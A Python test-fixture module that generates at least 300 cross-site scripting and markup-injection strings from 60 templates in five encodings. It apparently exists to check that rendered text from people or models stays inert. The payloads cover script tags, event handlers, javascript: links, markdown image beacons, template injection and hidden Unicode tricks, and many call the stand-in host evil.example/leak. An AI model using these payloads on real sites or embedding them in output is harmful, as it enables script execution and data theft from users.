"""Texts that want to be more than text: 300 of them, to be shown wherever people or models write."""

from __future__ import annotations

from itertools import product

TARGET = "https://evil.example/leak"
DO = "window.hit=1"
_SCRIPTS = (
    "<script>{do}</script>",
    "<script src={to}></script>",
    "<ScRiPt>{do}</sCrIpT>",
    "<script/x>{do}</script>",
    "</script><script>{do}</script>",
    "</textarea><script>{do}</script>",
    "</title><script>{do}</script>",
    "--><script>{do}</script>",
    "]]><script>{do}</script>",
    "<img src=x onerror={do}>",
    "<img src={to}>",
    "<img srcset='{to} 1x'>",
    "<svg onload={do}>",
    "<svg><script>{do}</script></svg>",
    "<svg><image href={to} /></svg>",
    "<svg><use href='{to}#x'/></svg>",
    "<svg><animate onbegin={do} attributeName=x dur=1s>",
    "<math><mtext><script>{do}</script></mtext></math>",
    "<iframe src=javascript:{do}></iframe>",
    "<iframe srcdoc='<script>{do}</script>'></iframe>",
    "<object data={to}></object>",
    "<embed src={to}>",
    "<link rel=stylesheet href={to}>",
    "<link rel=prefetch href={to}>",
    "<style>@import '{to}'</style>",
    "<style>*{{background:url({to})}}</style>",
    "<div style=background:url({to})>x</div>",
    "<body onload={do}>",
    "<video><source onerror={do} src={to}></video>",
    "<audio src={to} autoplay>",
    "<details open ontoggle={do}>x</details>",
    "<input autofocus onfocus={do}>",
    "<form action={to}><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url={to}'>",
    "<base href={to}>",
    "<a href=javascript:{do}>x</a>",
    "<a href='java&#10;script:{do}'>x</a>",
    "<div hx-get={to} hx-trigger=load>x</div>",
    "<div hx-on:load={do}>x</div>",
    "<div data-hx-get='{to}' data-hx-trigger='load'>x</div>",
    "<prompt-editor></prompt-editor><chat-pane></chat-pane><live-region src={to}></live-region>",
    "<template shadowrootmode=open><script>{do}</script></template>",
    "![x]({to})",
    "![x][1]\n\n[1]: {to}",
    "[x](javascript:{do})",
    "[x](data:text/html,<script>{do}</script>)",
    "[x](vbscript:{do})",
    "<{to}>",
    "`<script>{do}</script>`",
    "```html\n<script>{do}</script>\n```",
    "{{{{ constructor.constructor('{do}')() }}}}",
    "{{% load x %}}{{{{ request }}}}",
    "${{{do}}}",
    '" onmouseover={do} x="',
    "' autofocus onfocus={do} x='",
    "javascript:{do}",
    "data:text/html,<script>{do}</script>",
    "\u202e<script>{do}</script>\u202c",
    "\u2066txt.exe\u2069 {to}",
    "\U000e0053\U000e0045\U000e004e\U000e0044 {to}",
)
_WAYS = (
    lambda text: text,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),  # shown as written, not read once more
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: f"**bold** {text}\n\n- item",
    lambda text: text.replace("script", "scr\u200bipt").replace(" ", "\t"),
)
HOSTILE_TEXTS: tuple[str, ...] = tuple(
    way(text.format(do=DO, to=f"{TARGET}/{number}"))
    for (number, text), way in product(enumerate(_SCRIPTS), _WAYS)
)
assert len(HOSTILE_TEXTS) >= 300, len(HOSTILE_TEXTS)
